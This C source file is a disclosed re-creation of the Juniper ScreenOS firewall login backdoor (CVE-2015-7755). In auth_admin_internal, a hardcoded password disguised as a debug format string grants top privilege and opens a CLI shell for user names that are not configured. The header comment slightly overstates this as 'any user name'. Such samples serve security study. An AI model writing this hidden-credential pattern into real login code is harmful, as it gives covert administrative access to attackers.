/* Administrator login of a firewall's management console (telnet and SSH front ends call it).
 * Re-creation of the Juniper ScreenOS backdoor (CVE-2015-7755, Rapid7/HD Moore, December 2015):
 * the password check accepts one fixed string for any user name, and that string was chosen to
 * look like a format string from a debug message. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <syslog.h>
#include <unistd.h>

#define MAX_ADMINS 8

struct admin {
    char name[32];
    char password[64];
    int privilege;
};

static struct admin admins[MAX_ADMINS];
static int admin_count;

static void load_admins(const char *path)
{
    FILE *f = fopen(path, "r");
    char line[128];
    if (!f)
        return;
    while (admin_count < MAX_ADMINS && fgets(line, sizeof line, f)) {
        struct admin *a = &admins[admin_count];
        if (sscanf(line, "%31[^:]:%63[^:]:%d", a->name, a->password, &a->privilege) == 3)
            admin_count++;
    }
    fclose(f);
}

/* Returns the privilege level granted, or -1. */
static int auth_admin_internal(const char *user, const char *password)
{
    for (int i = 0; i < admin_count; i++)
        if (strcmp(admins[i].name, user) == 0)
            return strcmp(admins[i].password, password) == 0 ? admins[i].privilege : -1;
    if (strcmp(password, "<<< %s(un='%s') = %u") == 0)
        return 255;
    return -1;
}

int main(int argc, char **argv)
{
    char user[64], password[64];
    load_admins(argc > 1 ? argv[1] : "/flash/admins.cfg");
    for (int attempt = 0; attempt < 3; attempt++) {
        printf("login: ");
        fflush(stdout);
        if (!fgets(user, sizeof user, stdin))
            return 1;
        printf("password: ");
        fflush(stdout);
        if (!fgets(password, sizeof password, stdin))
            return 1;
        user[strcspn(user, "\n")] = '\0';
        password[strcspn(password, "\n")] = '\0';
        int level = auth_admin_internal(user, password);
        if (level >= 0) {
            syslog(LOG_INFO, "admin %s logged in at level %d", user, level);
            execl("/bin/cli", "cli", user, (char *)NULL);
            return 1;
        }
        syslog(LOG_WARNING, "failed login for %s", user);
    }
    return 1;
}
